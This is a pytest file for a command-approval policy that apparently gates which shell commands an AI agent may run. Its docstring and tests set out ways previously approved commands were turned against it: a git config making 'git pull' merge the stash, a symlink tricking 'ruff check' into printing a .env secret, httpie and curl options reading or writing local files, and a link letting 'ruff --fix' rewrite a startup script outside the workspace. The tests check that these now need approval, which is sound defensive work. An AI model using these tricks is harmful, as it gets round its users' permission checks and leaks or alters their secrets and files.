"""Review FX, of fixer V's approvals fixes and review FW's.

FX1: a crafted `branch.main.remote = .` with `branch.main.merge = refs/stash` made a bare
approved `git pull` merge the stash into `main`. FX2: a committed link `leak.py -> .env`
was read by an approved `ruff check .` as the Python file it seems, and printed (inside the
workspace, a whole-folder reader's `.env` files are deliberately not judged, and links
were looked at only where they led out of the folder). FX4: httpie's `q==@FILE` sends the
file as a query. FX6: a help line with another option beside (`VBoxManage -q --version`)
was still offered the bare name."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from realrun import decide, git_out, untracked_stash_repository

from policylang import Verdict

_RUFF = shutil.which("ruff") or str(Path(sys.executable).parent / "ruff")


def _verdict(line: str, workspace: Path, env: dict[str, str], *approvals: str) -> Verdict:
    return decide(line, workspace, env, *approvals).verdict


def test_fx1_a_branch_remote_that_is_this_repository_asks(tmp_path: Path) -> None:
    workspace, env = untracked_stash_repository(tmp_path)
    offered = decide("git pull", workspace, env).suggested_rule
    assert offered == "git pull"
    git_out(workspace, "config", "branch.main.remote", ".")
    git_out(workspace, "config", "branch.main.merge", "refs/stash")
    decision = decide("git pull", workspace, env, offered)
    assert decision.verdict is Verdict.ASK, decision.explain()
    git_out(workspace, "pull", "-q")  # what git does: the stash is in `main`
    assert "CANARY_FD" in git_out(workspace, "log", "-p")


def _ruff_workspace(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (tmp_path / "home").mkdir()
    (workspace / "app.py").write_text("print(1)\n")
    (workspace / ".env").write_text("DB_PASS=CANARY_ENV\n")
    return workspace, {"HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"}


@pytest.mark.parametrize("where", [".", "build", "a/b/c"])
def test_fx2_a_link_to_a_protected_file_inside_asks(tmp_path: Path, where: str) -> None:
    workspace, env = _ruff_workspace(tmp_path)
    offered = decide("ruff check .", workspace, env).suggested_rule
    assert offered == "ruff check"
    assert _verdict("ruff check .", workspace, env, offered) is Verdict.ALLOW
    folder = workspace / where
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "leak.py").symlink_to(os.path.relpath(workspace / ".env", folder))
    done = subprocess.run([_RUFF, "check", "--no-cache", "."], cwd=workspace, timeout=60,
                          capture_output=True, text=True, check=False)  # fmt: skip
    assert "CANARY_ENV" in done.stdout + done.stderr  # what ruff does: the link is read
    for line in ("ruff check .", "ruff check"):
        assert _verdict(line, workspace, env, offered) is not Verdict.ALLOW, line
    assert _verdict("ruff format .", workspace, env, "ruff format") is not Verdict.ALLOW


def test_fx2_links_to_folders_and_plain_files_inside_stay_approved(tmp_path: Path) -> None:
    workspace, env = _ruff_workspace(tmp_path)
    (workspace / "src").mkdir()
    (workspace / "src" / "m.py").write_text("x = 1\n")
    (workspace / "pkg").symlink_to("src")
    (workspace / "alias.py").symlink_to("app.py")
    assert _verdict("ruff check .", workspace, env, "ruff check") is Verdict.ALLOW


def test_fx4_an_httpie_query_from_a_file_asks(tmp_path: Path) -> None:
    workspace, env = _ruff_workspace(tmp_path)
    (workspace / "notes.txt").write_text("private\n")
    offered = decide("http https://example.com", workspace, env).suggested_rule
    assert offered is not None
    assert _verdict("http https://example.com q==v", workspace, env, offered) is Verdict.ALLOW
    line = "http https://example.com q==@notes.txt"
    assert _verdict(line, workspace, env, offered) is Verdict.ASK


@pytest.mark.parametrize("line", ["VBoxManage -q --version", "VBoxManage --help-all"])
def test_fx6_a_help_line_with_another_option_is_offered_exactly(
    tmp_path: Path, line: str
) -> None:
    workspace, env = _ruff_workspace(tmp_path)
    offered = decide(line, workspace, env).suggested_rule
    assert offered is not None
    assert offered.endswith("$"), offered
    assert _verdict("VBoxManage startvm x", workspace, env, offered) is Verdict.ASK


def test_fx3_a_python_link_out_of_the_workspace_asks(tmp_path: Path) -> None:
    workspace, env = _ruff_workspace(tmp_path)
    startup = tmp_path / "home" / ".config" / "tool" / "startup"
    startup.mkdir(parents=True)
    (startup / "00.py").write_text("import os\n")
    (workspace / "ruff.toml").write_text('[lint.isort]\nrequired-imports = ["import sys"]\n')
    (workspace / "lib.py").symlink_to(startup / "00.py")
    done = subprocess.run([_RUFF, "check", "--no-cache", "--select", "I002", "--fix", "."],
                          cwd=workspace, timeout=60, capture_output=True, text=True,
                          check=False)  # fmt: skip
    assert "import sys" in (startup / "00.py").read_text(), done.stdout + done.stderr
    for line, approval in (("ruff check --fix .", "ruff check"), ("ruff format .", "ruff format"),
                           ("ruff check", "ruff check")):  # fmt: skip
        assert _verdict(line, workspace, env, approval) is Verdict.ASK, line
    (workspace / "lib.py").unlink()
    (workspace / "lib.py").symlink_to("app.py")  # (a link inside: rewritten there)
    assert _verdict("ruff format .", workspace, env, "ruff format") is Verdict.ALLOW


def test_fx5_curls_output_variable_asks(tmp_path: Path) -> None:
    # suspected: curl 8.3 added `%output{FILE}` to `-w`; the curl here may be older
    workspace, env = _ruff_workspace(tmp_path)
    offered = decide("curl https://example.com", workspace, env).suggested_rule
    assert offered is not None
    assert _verdict("curl -w '%{http_code}' https://x", workspace, env, offered) is Verdict.ALLOW
    line = "curl -w '%output{~/notes.txt}hi' https://x"
    assert _verdict(line, workspace, env, offered) is Verdict.ASK
